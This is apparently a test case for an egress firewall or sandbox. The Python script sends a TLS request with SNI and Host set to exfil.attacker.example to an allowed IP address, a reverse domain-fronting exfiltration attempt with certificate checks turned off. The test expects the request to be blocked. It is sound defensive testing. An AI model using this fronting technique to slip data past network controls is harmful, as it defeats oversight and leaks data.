# what: TLS with SNI exfil.attacker.example sent to allowed.test's address (domain fronting the other way round)
# expect-denied: exfil.attacker.example 443 tls not_allowlisted
# expect-stdout: ^BLOCKED
import socket, ssl

ctx = ssl._create_unverified_context()
try:
    raw = socket.create_connection(("198.18.1.10", 443), timeout=10)
    s = ctx.wrap_socket(raw, server_hostname="exfil.attacker.example")
    s.sendall(b"GET / HTTP/1.1\r\nHost: exfil.attacker.example\r\nConnection: close\r\n\r\n")
    print("LEAK:", s.recv(300))
except Exception as e:
    print("BLOCKED:", type(e).__name__, e)
